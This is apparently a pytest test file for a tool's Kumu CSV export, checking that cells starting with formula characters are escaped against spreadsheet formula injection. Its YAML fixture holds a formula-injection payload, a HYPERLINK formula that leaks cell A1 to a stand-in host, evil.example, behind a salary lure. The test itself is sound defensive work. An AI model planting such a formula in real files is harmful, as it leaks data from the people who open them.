"""Kumu's CSV files are opened in spreadsheets too: no name or text may start a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from chainmap.cli import main
from chainmap.render.exports import spreadsheet_cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TEAM = '''\
team: '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your salary")'
description: "+1 for the new cost report"
contact: "@payroll on chat"
customers:
  - team: "-2 West"
    delivers: "=SUM(A1:A9)"
    need: "@HR lead: contracts before the cut-off"
    feedback:
      - kind: review
        last: 2026-10-01
  - team: HR Advisory
    delivers: "Monthly overview - checked"
'''


def kumu_rows(tmp_path: Path) -> tuple[list[list[str]], list[list[str]]]:
    (tmp_path / "team.yaml").write_text(TEAM, encoding="utf-8")
    out = tmp_path / "map.zip"
    result = CliRunner().invoke(main, ["render", str(tmp_path / "team.yaml"), "-o", str(out),
                                       "--as-of", "2026-11-22"])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        return [list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
                for name in ("elements.csv", "connections.csv")]


def test_a_team_named_like_a_formula_stays_text_in_kumus_csv(tmp_path):
    elements, connections = kumu_rows(tmp_path)
    header, *rows = elements
    by_id = {row[0]: dict(zip(header, row)) for row in rows}
    payroll = next(row for row in by_id.values() if "HYPERLINK" in row["Label"])
    assert payroll["Label"] == '\'=HYPERLINK("https://evil.example/?leak="&A1, "Click for your salary")'
    assert payroll["Description"] == "'+1 for the new cost report"
    assert payroll["Contact"] == "'@payroll on chat"
    assert by_id["2-west"]["Label"] == "'-2 West"
    header, *links = connections
    link = next(dict(zip(header, row)) for row in links if row[1] == "2-west")
    assert link["Label"] == "'=SUM(A1:A9)"
    assert link["Need"] == "'@HR lead: contracts before the cut-off"
    # Ids are never escaped: connections still name their elements.
    assert {row[0] for row in links} | {row[1] for row in links} <= set(by_id)
    other = next(dict(zip(header, row)) for row in links if row[1] == "hr-advisory")
    assert other["Label"] == "Monthly overview - checked"  # only the first character counts
    for row in rows + links:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row


@pytest.mark.parametrize("text, cell", [
    ("=1+1", "'=1+1"), ("+31 20 123", "'+31 20 123"), ("-", "'-"), ("@home", "'@home"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Payroll", "Payroll"), ("", ""), ("a=b", "a=b"), (" =x", " =x"),
])
def test_spreadsheet_cell_follows_owasps_rule(text, cell):
    assert spreadsheet_cell(text) == cell
